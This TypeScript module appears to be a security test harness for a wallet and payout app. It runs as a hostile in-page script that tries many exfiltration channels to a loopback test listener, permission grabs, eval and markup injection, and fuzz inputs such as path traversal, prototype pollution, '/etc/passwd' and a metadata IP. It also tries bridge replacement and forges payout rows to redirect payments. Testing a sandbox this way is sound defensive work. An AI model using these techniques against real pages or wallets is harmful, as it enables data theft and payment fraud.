// Owns what a hostile script tries from inside the main window; each function runs in the page and answers what it achieved.

export interface Bridge {
  readonly methods: Readonly<Record<string, (args?: unknown) => Promise<BridgeAnswer>>>;
}
export interface BridgeAnswer {
  readonly ok: boolean;
  readonly value?: unknown;
  readonly error?: { readonly code: string };
}
declare global {
  interface Window {
    readonly pullpay: Bridge;
  }
}

export interface Ears {
  /** A TCP port and a UDP port on loopback at which a test listens. */
  readonly tcp: number;
  readonly udp: number;
}

/** Every way out of a page that browsers know. What arrives at the test's ears is the result; the answer is what was tried. */
export async function tryEveryWayOut({ tcp, udp }: Ears): Promise<readonly string[]> {
  const http = `http://127.0.0.1:${tcp}/stolen`;
  const tried: string[] = [];
  const attempt = async (name: string, act: () => unknown): Promise<void> => {
    tried.push(name);
    try {
      await Promise.race([act(), new Promise((resolve) => setTimeout(resolve, 300))]);
    } catch {
      // Refused.
    }
  };
  const element = (name: string, attributes: Readonly<Record<string, string>>): HTMLElement => {
    const made = document.createElement(name);
    for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value);
    document.body.append(made);
    return made;
  };
  await attempt('fetch', () => fetch(http, { mode: 'no-cors', method: 'POST', body: 'x' }));
  await attempt('XMLHttpRequest', () => {
    const request = new XMLHttpRequest();
    request.open('GET', http);
    request.send();
  });
  await attempt('sendBeacon', () => navigator.sendBeacon(http, 'x'));
  await attempt('WebSocket', () => new WebSocket(`ws://127.0.0.1:${tcp}/`));
  await attempt('EventSource', () => new EventSource(http));
  await attempt('img', () => element('img', { src: http }));
  await attempt('css url', () => element('div', { style: `background: url(${http})` }));
  await attempt('style set by script', () => {
    element('div', {}).style.backgroundImage = `url(${http})`;
  });
  await attempt('adopted style sheet', () => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(`body { background-image: url(${http}) }`);
    document.adoptedStyleSheets = [sheet];
  });
  await attempt('font', () => new FontFace('stolen', `url(${http})`).load());
  await attempt('audio', () => element('audio', { src: http, autoplay: '' }));
  await attempt('iframe', () => element('iframe', { src: http }));
  await attempt('object', () => element('object', { data: http }));
  await attempt('embed', () => element('embed', { src: http }));
  for (const rel of ['stylesheet', 'preload', 'prefetch', 'modulepreload', 'preconnect', 'icon', 'manifest', 'dns-prefetch', 'prerender'])
    await attempt(`link ${rel}`, () => element('link', { rel, href: http, as: 'image' }));
  await attempt('form', () => (element('form', { action: http, method: 'post' }) as HTMLFormElement).submit());
  await attempt('ping', () => element('a', { href: '#x', ping: http }).click());
  await attempt('window.open', () => window.open(http));
  await attempt('download', () => element('a', { href: http, download: 'x' }).click());
  await attempt('meta refresh', () => element('meta', { 'http-equiv': 'refresh', content: `0;url=${http}` }));
  await attempt('blob worker', () => new Worker(URL.createObjectURL(new Blob([`fetch('${http}')`]))));
  await attempt('service worker', () => navigator.serviceWorker.register(`${http}.js`));
  await attempt('WebTransport', () => new WebTransport(`https://127.0.0.1:${tcp}/`).ready);
  await attempt('WebRTC', async () => {
    const peer = new RTCPeerConnection({
      iceServers: [
        { urls: `stun:127.0.0.1:${udp}` },
        { urls: [`turn:127.0.0.1:${udp}`, `turn:127.0.0.1:${tcp}?transport=tcp`], username: 'stolen', credential: 'x' },
      ],
    });
    peer.createDataChannel('x');
    await peer.setLocalDescription(await peer.createOffer());
    await new Promise((resolve) => setTimeout(resolve, 250));
  });
  await new Promise((resolve) => setTimeout(resolve, 1500));
  return tried;
}

/** What a page may ask the browser for; answers what it was given. */
export async function tryPermissions(): Promise<readonly string[]> {
  const given: string[] = [];
  const ask = async (name: string, act: () => Promise<unknown>): Promise<void> => {
    const late = new Promise((_resolve, reject) => setTimeout(() => reject(new Error('no answer')), 1000));
    await Promise.race([act(), late]).then(
      () => given.push(name),
      () => undefined,
    );
  };
  await ask('clipboard', () => navigator.clipboard.readText());
  await ask('microphone', () => navigator.mediaDevices.getUserMedia({ audio: true }));
  await ask('camera', () => navigator.mediaDevices.getUserMedia({ video: true }));
  await ask('screen', () => navigator.mediaDevices.getDisplayMedia());
  await ask('place', () => new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject)));
  await ask('notifications', async () => {
    if ((await Notification.requestPermission()) !== 'granted') throw new Error('refused');
  });
  return given;
}

/** Code from text, from inside the page (the driver's own evaluate is not bound by the policy). */
export function tryToRunText(): Promise<readonly string[]> {
  const ran: string[] = [];
  Object.assign(window, { ran });
  const call = (name: string, text: string): unknown => Reflect.apply(Reflect.get(globalThis, name) as () => unknown, null, [text]);
  return new Promise((resolve) => {
    setTimeout(() => {
      for (const act of [
        () => call('eval', 'ran.push("eval")'),
        () => (call('Function', 'ran.push("Function")') as () => void)(),
        () => call('setTimeout', 'ran.push("setTimeout")'),
        () => document.body.setAttribute('onclick', 'ran.push("attribute")'),
        () => {
          document.body.innerHTML += '<img src="x" onerror="ran.push(\'innerHTML\')">';
        },
        () => {
          const script = document.createElement('script');
          script.textContent = 'ran.push("script")';
          document.body.append(script);
        },
        () => {
          location.href = 'javascript:ran.push("location")';
        },
      ])
        try {
          act();
        } catch {
          // Refused.
        }
      document.body.click();
      setTimeout(() => resolve(ran), 300);
    });
  });
}

export interface BridgeFindings {
  /** Every answer, as text, to be looked through for secrets. */
  readonly answers: string;
  /** Calls that were answered with ok although their arguments were nonsense. */
  readonly taken: readonly string[];
  readonly calls: number;
}

/** Every method of the bridge with every kind of nonsense. */
export async function callEverything(skip: readonly string[]): Promise<BridgeFindings> {
  const nonsense: readonly unknown[] = [
    undefined,
    null,
    0,
    -1,
    'x',
    'x'.repeat(100_000),
    [],
    [{}],
    { walletId: '../../vault' },
    { walletId: { toString: 'x' } },
    { walletId: 'con', payoutIds: ['__proto__'], planId: '../outbox' },
    JSON.parse('{"__proto__": {"ok": true}, "constructor": {"prototype": {"ok": true}}}'),
    { kind: 'approve-plan', walletId: 'x', planId: 'x', token: 'x', confirm: true },
    { kind: 'reveal-words', password: 'x' },
    { kind: 'show-words' },
    { origin: 'file:///etc/passwd' },
    { origin: 'http://169.254.169.254', text: 7 },
    { method: 'secure:planView', channel: 'secure:planView' },
    new Uint8Array(70_000),
    new Map([['walletId', 'x']]),
    new Date(Number.NaN),
  ];
  const taken: string[] = [];
  const answers: string[] = [];
  let calls = 0;
  for (const [name, call] of Object.entries(window.pullpay.methods))
    for (const args of skip.includes(name) ? [] : nonsense) {
      calls += 1;
      const answer = await call(args).catch((error: unknown) => ({ ok: false, error: { code: String(error) } }));
      answers.push(JSON.stringify(answer));
      if (answer.ok) taken.push(`${name}(${args instanceof Date || args instanceof Map ? 'empty' : JSON.stringify(args)?.slice(0, 40)})`);
    }
  return { answers: answers.join('\n'), taken, calls };
}

/** Tries to put its own functions in the place of the bridge's. */
export function tryToReplaceBridge(): Readonly<Record<string, boolean>> {
  const evil = async (): Promise<BridgeAnswer> => ({ ok: true });
  const before = window.pullpay.methods.planPayment;
  const acts: readonly (() => unknown)[] = [
    () => Object.assign(window.pullpay.methods, { planPayment: evil }),
    () => Object.defineProperty(window.pullpay.methods, 'planPayment', { value: evil }),
    () => Object.assign(window.pullpay, { methods: { planPayment: evil } }),
    () => Object.defineProperty(window, 'pullpay', { value: { methods: { planPayment: evil } } }),
    () => Reflect.deleteProperty(window, 'pullpay'),
  ];
  for (const act of acts)
    try {
      act();
    } catch {
      // Refused.
    }
  return { same: window.pullpay.methods.planPayment === before };
}

/** Writes another destination and a hundredfold amount into every payout's row; answers how many it changed. */
export async function forgeRows(address: string): Promise<number> {
  let forged = 0;
  for (const { name } of await indexedDB.databases()) {
    const opening = indexedDB.open(name ?? '');
    await new Promise((resolve) => opening.addEventListener('success', resolve));
    const database = opening.result;
    if (!database.objectStoreNames.contains('payouts')) continue;
    const writing = database.transaction('payouts', 'readwrite');
    const store = writing.objectStore('payouts');
    const reading = store.getAll();
    await new Promise((resolve) => reading.addEventListener('success', resolve));
    for (const row of reading.result as Record<string, unknown>[]) {
      store.put({
        ...row,
        address,
        destination: address,
        payoutAmount: '0.5',
        originalAmount: '99999',
        state: 'AwaitingPayment',
        locked: false,
      });
      forged += 1;
    }
    await new Promise((resolve) => writing.addEventListener('complete', resolve));
    database.close();
  }
  // As the database's library tells every thread of a change: all screens read anew.
  new BroadcastChannel('x-storagemutated-1').postMessage({ all: { d: 1, from: '', to: '\uffff' } });
  return forged;
}

/** Takes the next port to main that the preload hands over, before the page's own script can, and asks it for appends of its own. */
export async function appendWithStolenPort([walletId, events]: readonly [string, readonly unknown[]]): Promise<readonly string[]> {
  const port = (window as unknown as { stolen?: MessagePort }).stolen;
  if (!port) return ['no port'];
  port.start();
  const codes: string[] = [];
  for (const [index, event] of events.entries()) {
    const id = 1_000_000 + index;
    const answer = new Promise<{ ok: boolean; error?: { code: string } }>((resolve) => {
      port.addEventListener('message', ({ data }) => {
        // Answers that main gives in one turn come as one message.
        for (const each of Array.isArray(data) ? data : [data]) if (each?.kind === 'reply' && each.id === id) resolve(each.answer);
      });
    });
    port.postMessage({ kind: 'call', id, method: 'appendPromises', args: { walletId, events: [event] } });
    const { ok, error } = await answer;
    codes.push(ok ? 'ok' : (error?.code ?? 'refused'));
  }
  return codes;
}
